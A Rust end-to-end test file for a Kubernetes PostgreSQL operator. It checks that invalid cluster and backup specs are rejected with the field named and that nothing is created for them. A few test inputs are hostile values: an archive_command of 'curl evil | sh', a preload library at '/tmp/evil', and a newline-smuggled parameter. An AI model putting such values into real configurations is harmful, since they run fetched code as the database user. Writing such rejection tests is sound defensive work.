//! Invalid specs are rejected by the API server (CRD schema and CEL rules), naming the field,
//! and nothing is created for them.

use tusk_e2e::manifests::{backup, cluster};
use tusk_e2e::objects::names;
use tusk_e2e::{Ctx, Kind, Result, ensure, fail, say, scenario};

const S3: &str = "destination: {s3: {bucket: tusk-backups, credentials: {accessKeyId: {name: s, key: a}, secretAccessKey: {name: s, key: b}}}}";
const GCS: &str =
    "gcs: {bucket: my-bucket, credentials: {serviceAccountKey: {name: k, key: key.json}}}";

/// (the field the error must name, metadata.name, spec in flow YAML)
fn cases() -> Vec<(&'static str, &'static str, String)> {
    let bad = |field, spec: &str| (field, "bad", spec.to_string());
    vec![
        bad("spec.instances", "{storage: {size: 1Gi}, instances: 10}"),
        bad(
            "spec.replication.synchronous.number",
            "{storage: {size: 1Gi}, instances: 2, replication: {synchronous: {number: 2}}}",
        ),
        bad("spec.version", r#"{storage: {size: 1Gi}, version: "13"}"#),
        bad("spec.storage", r#"{version: "18"}"#),
        bad("spec.storage.size", r#"{storage: {size: "-1Gi"}}"#),
        bad("spec.storage.size", "{storage: {size: lots}}"),
        bad(
            "spec.parameters",
            r#"{storage: {size: 1Gi}, parameters: {port: "5433"}}"#,
        ),
        bad(
            "spec.parameters",
            r#"{storage: {size: 1Gi}, parameters: {Max-Connections: "10"}}"#,
        ),
        bad(
            "spec.parameters",
            r#"{storage: {size: 1Gi}, parameters: {work_mem: "4MB\nport = 1"}}"#,
        ),
        bad(
            "spec.image",
            r#"{storage: {size: 1Gi}, image: "postgres 18"}"#,
        ),
        bad(
            "spec.pgHba",
            r#"{storage: {size: 1Gi}, pgHba: ["local all all trust"]}"#,
        ),
        bad(
            "spec.pgHba",
            r#"{storage: {size: 1Gi}, pgHba: ["hostssl all all 10.0.0.0/8 trust"]}"#,
        ),
        bad(
            "spec.pgHba",
            r#"{storage: {size: 1Gi}, pgHba: ["hostssl all all 10.0.0.1 255.0.0.0 password"]}"#,
        ),
        bad(
            "spec.bootstrap.database",
            "{storage: {size: 1Gi}, bootstrap: {database: postgres}}",
        ),
        bad(
            "spec.bootstrap.owner",
            "{storage: {size: 1Gi}, bootstrap: {owner: pg_admin}}",
        ),
        bad(
            "spec.backup.schedule",
            &format!(r#"{{storage: {{size: 1Gi}}, backup: {{schedule: "every night", {S3}}}}}"#),
        ),
        bad(
            "spec.backup.destination",
            r#"{storage: {size: 1Gi}, backup: {schedule: "@daily", destination: {}}}"#,
        ),
        bad(
            "spec.backup.destination",
            &format!(
                r#"{{storage: {{size: 1Gi}}, backup: {{schedule: "@daily", destination: {{s3: {{bucket: abc}}, {GCS}}}}}}}"#
            ),
        ),
        bad(
            "spec.backup.retention.keep",
            &format!(
                r#"{{storage: {{size: 1Gi}}, backup: {{schedule: "@daily", retention: {{keep: 0}}, {S3}}}}}"#
            ),
        ),
        bad(
            "spec.backup.retention.maxAge",
            &format!(
                r#"{{storage: {{size: 1Gi}}, backup: {{schedule: "@daily", retention: {{maxAge: 30 days}}, {S3}}}}}"#
            ),
        ),
        bad(
            "spec.backup.compression",
            &format!(
                r#"{{storage: {{size: 1Gi}}, backup: {{schedule: "@daily", compression: lz4, {S3}}}}}"#
            ),
        ),
        bad(
            "spec.backup.onDelete",
            &format!(
                r#"{{storage: {{size: 1Gi}}, backup: {{schedule: "@daily", onDelete: Purge, {S3}}}}}"#
            ),
        ),
        bad(
            "spec.backup.destination.s3.bucket",
            r#"{storage: {size: 1Gi}, backup: {schedule: "@daily", destination: {s3: {bucket: Bad_Bucket}}}}"#,
        ),
        bad(
            "spec.backup.destination.s3.endpoint",
            r#"{storage: {size: 1Gi}, backup: {schedule: "@daily", destination: {s3: {bucket: abc, endpoint: "minio:9000"}}}}"#,
        ),
        bad(
            "spec.backup.destination.s3.path",
            r#"{storage: {size: 1Gi}, backup: {schedule: "@daily", destination: {s3: {bucket: abc, path: ../other}}}}"#,
        ),
        bad(
            "spec.backup.destination.gcs.bucket",
            r#"{storage: {size: 1Gi}, backup: {schedule: "@daily", destination: {gcs: {bucket: ab, credentials: {serviceAccountKey: {name: k, key: key.json}}}}}}"#,
        ),
        // Accepted once, then refused by the CronJob or StatefulSet API: refused here instead.
        bad(
            "spec.backup.schedule",
            &format!(r#"{{storage: {{size: 1Gi}}, backup: {{schedule: "0 0 * * 7", {S3}}}}}"#),
        ),
        bad(
            "spec.resources",
            "{storage: {size: 1Gi}, resources: {limits: {memory: lots}}}",
        ),
        bad(
            "spec.resources",
            "{storage: {size: 1Gi}, resources: {requests: {cpu: 2}, limits: {cpu: 500m}}}",
        ),
        bad(
            "spec.storage.storageClassName",
            r#"{storage: {size: 1Gi, storageClassName: "Fast SSD"}}"#,
        ),
        // Settings that would run commands or load code as the postgres user.
        bad(
            "spec.parameters",
            r#"{storage: {size: 1Gi}, parameters: {archive_command: "curl evil | sh"}}"#,
        ),
        bad(
            "spec.parameters",
            r#"{storage: {size: 1Gi}, parameters: {shared_preload_libraries: "/tmp/evil"}}"#,
        ),
        // Names the agent would refuse (tests/contracts/names.json).
        bad(
            "spec.backup.destination.s3.path",
            r#"{storage: {size: 1Gi}, backup: {schedule: "@daily", destination: {s3: {bucket: abc, path: a/./b}}}}"#,
        ),
        bad(
            "spec.restore.objectStore.cluster",
            "{storage: {size: 1Gi}, restore: {objectStore: {destination: {s3: {bucket: abc}}, cluster: Old_Cluster}}}",
        ),
        bad("spec.restore", "{storage: {size: 1Gi}, restore: {}}"),
        bad("spec.replicas", "{storage: {size: 1Gi}, replicas: 3}"),
        (
            "metadata.name",
            "a-name-that-is-far-too-long-for-its-children-0123456789",
            "{storage: {size: 1Gi}}".into(),
        ),
        ("metadata.name", "9lives", "{storage: {size: 1Gi}}".into()),
    ]
}

#[scenario]
async fn invalid_specs(ctx: Ctx) -> Result {
    let cases = cases();
    for (field, name, spec) in &cases {
        let yaml = format!(
            "apiVersion: tusk.dev/v1alpha1\nkind: PostgreSQL\nmetadata: {{name: {name}}}\nspec: {spec}\n"
        );
        let message = match ctx.apply(&yaml).await {
            Ok(_) => fail!("accepted: {spec}"),
            Err(e) => e.to_string(),
        };
        ensure!(
            message.contains(field),
            "rejected without naming {field}: {spec} -> {message}"
        );
        let short = message
            .split_once("is invalid: ")
            .map_or(message.as_str(), |(_, m)| m);
        say(format!(
            "rejected, naming {field}: {}",
            short.chars().take(150).collect::<String>()
        ));
    }
    let stored = ctx
        .postgresqls_in(&ctx.ns)
        .list(&Default::default())
        .await?
        .items
        .len();
    ensure!(stored == 0, "an invalid PostgreSQL was stored");
    // A Backup of something that cannot be a cluster would wait Pending forever.
    let message = match ctx.apply(&backup("of-nothing", "Not_A_Cluster")).await {
        Ok(_) => fail!("a Backup of cluster Not_A_Cluster was accepted"),
        Err(e) => e.to_string(),
    };
    ensure!(
        message.contains("spec.cluster.name"),
        "Backup rejected without naming spec.cluster.name: {message}"
    );

    // Changes that are valid at creation but not afterwards.
    ctx.apply(&cluster("valid", None)).await?;
    ctx.wait_ready(&["valid"]).await?;
    let generation = ctx
        .postgresql_in(&ctx.ns, "valid")
        .await?
        .metadata
        .generation;
    let updates = [
        (
            // Below the serving major, whichever major the suite runs.
            "spec.version",
            serde_json::json!({"spec": {"version": "14"}}),
        ),
        (
            "spec.restore",
            serde_json::json!({"spec": {"restore": {"backup": {"name": "b"}}}}),
        ),
        (
            "spec.storage.size",
            serde_json::json!({"spec": {"storage": {"size": "1Mi"}}}),
        ),
        (
            "spec.storage.storageClassName",
            serde_json::json!({"spec": {"storage": {"storageClassName": "other"}}}),
        ),
        (
            "spec.bootstrap",
            serde_json::json!({"spec": {"bootstrap": {"owner": "someone"}}}),
        ),
    ];
    let update_count = updates.len();
    for (field, patch) in updates {
        let message = match ctx.merge_patch_postgresql_in(&ctx.ns, "valid", patch).await {
            Ok(()) => fail!("update of {field} accepted"),
            Err(e) => e.to_string(),
        };
        ensure!(
            message.contains(field),
            "update rejected without naming {field}: {message}"
        );
        say(format!(
            "rejected on update: {}",
            message.rsplit(": ").next().unwrap_or_default()
        ));
    }
    let now = ctx
        .postgresql_in(&ctx.ns, "valid")
        .await?
        .metadata
        .generation;
    ensure!(
        now == generation,
        "a rejected update changed the generation: {generation:?} -> {now:?}"
    );
    // Nothing was created for any rejected object: the only Tusk children are those of `valid`.
    let stray = ctx
        .labelled_in(
            &ctx.ns,
            &Kind::CHILDREN,
            "tusk.dev/cluster,tusk.dev/cluster!=valid",
        )
        .await?;
    ensure!(
        stray.is_empty(),
        "children of rejected objects exist: {}",
        names(&stray)
    );
    // The cases, the Backup and the updates.
    let rejected = cases.len() + 1 + update_count;
    say(format!(
        "{rejected} invalid specs rejected by the API server; nothing created for them"
    ));
    Ok(())
}
